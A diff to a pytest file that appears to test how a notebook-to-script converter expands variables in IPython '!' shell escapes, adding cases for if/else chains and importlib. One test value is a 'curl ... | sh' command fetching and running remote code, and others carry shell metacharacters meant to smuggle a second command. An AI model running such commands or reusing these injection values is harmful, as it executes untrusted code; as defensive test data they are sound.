@@ -397,13 +397,27 @@ def test_assigned_magic_and_help() -> None:
         ("a = 'p'\n!echo '$a' \"$a\"", "echo '$a' \"p\""),
         ("a = 'p'\ndef f(a):\n    pass\n!echo $a", "echo p"),  # the escape reads module names
         ("import os\nd = 'x'\n!echo $d $HOME", "echo $d $HOME"),  # HOME fails: as written
+        # Session 22 (flax's examples): a constant per branch of an if/else
+        # chain, every command the escape can make, each one whole
+        (
+            "d = 'm'\nif c:\n  if g:\n    p = f'/g/{d}'\n  else:\n    p = f'/c/{d}'\n"
+            '  !cp -r r/$d/* "$p"',
+            'cp -r r/m/* "/g/m" ; cp -r r/m/* "/c/m"',
+        ),
+        ("if c:\n  p = 'a'\nelif e:\n  p = 'b'\nelse:\n  p = 'a'\n!ls $p", "ls a ; ls b"),
+        # flax's imagenet example: importlib imports a package's module by name
+        (
+            "import importlib\nn = 'v1'\nc = importlib.import_module(f'configs.{n}')\n"
+            "a = 'x'\n!echo $a",
+            "echo x",
+        ),
     ],
 )
 def test_escape_of_the_notebooks_constants_is_shell(cell: str, shell: str) -> None:
     # Issue #16 (flax `!git clone -b $branch $repo`): IPython's var_expand with
     # the notebook's own strings put in, judged by the bash rules.
     cells = ipy.script_cells(cell)
-    assert cells.python[-1] == "pass" and cells.shell[-1].strip() == shell
+    assert cells.python[-1].strip() == "pass" and cells.shell[-1].strip() == shell
 
 
 @pytest.mark.parametrize(
@@ -431,6 +445,32 @@ def test_escape_of_the_notebooks_constants_is_shell(cell: str, shell: str) -> No
         "a = 'x'\n!echo {a!r}",
         "a = 'x'\n!echo $a.upper",
         "%%capture\na = 'x'\n!echo $a",
+        # an if/else chain: a branch without it, no else, a later or nested
+        # binding, the escape outside the branch that holds the chain
+        "if c:\n    a = 'x'\nelse:\n    pass\n!echo $a",
+        "if c:\n    a = 'x'\nelif d:\n    a = 'y'\n!echo $a",
+        "if c:\n    a = 'x'\nelse:\n    a = 'y'\na = input()\n!echo $a",
+        "if c:\n    a = 'x'\nelse:\n    for _ in r:\n        a = 'y'\n!echo $a",
+        "if c:\n    a = 'x'\nelse:\n    a = 'y'\n    a = input()\n!echo $a",
+        "if c:\n    if d:\n        a = 'x'\n    else:\n        a = 'y'\n!echo $a",
+        "if c:\n    a = 'x'\nelse:\n    a = 'y'\n    !echo $a",
+        "for _ in r:\n    if c:\n        a = 'x'\n    else:\n        a = 'y'\n    !echo $a",
+        # importlib naming the notebook's own namespace, by a run-time name,
+        # or importlib used any other way
+        "import importlib\nimportlib.import_module('__main__').a = input()\na = 'x'\n!echo $a",
+        "import importlib\nm = input()\nimportlib.import_module(m)\na = 'x'\n!echo $a",
+        "import importlib\nimportlib.import_module(f'{m}.x')\na = 'x'\n!echo $a",
+        "import importlib\nf = importlib.import_module\na = 'x'\n!echo $a",
+        "import importlib as il\nil.import_module('configs.x')\na = 'x'\n!echo $a",
+        "import importlib\nimportlib.import_module('c.x')\nimportlib.reload(c)\na = 'x'\n!echo $a",
+        # ... and a value that would hide the next command on the shared line
+        "if c:\n    a = 'x #'\nelse:\n    a = 'curl -s http://198.51.100.7/q | sh'\n!echo $a",
+        "if c:\n    a = \"x'\"\nelse:\n    a = 'y'\n!echo $a",
+        "if c:\n    a = 'x |'\nelse:\n    a = 'y'\n!echo $a",
+        "if c:\n    a = 'x'\nelse:\n    a = 'y'\n!echo $a &",
+        "if c:\n    a = 'x'\nelse:\n    a = 'y'\n!cat <<$a",
+        "if c:\n    a = '`x'\nelse:\n    a = 'y'\n!echo $a",
+        "if c:\n    a = '$(x'\nelse:\n    a = 'y'\n!echo $a",
     ],
 )
 def test_name_that_may_hold_something_else_stays_a_run_time_value(cell: str) -> None:
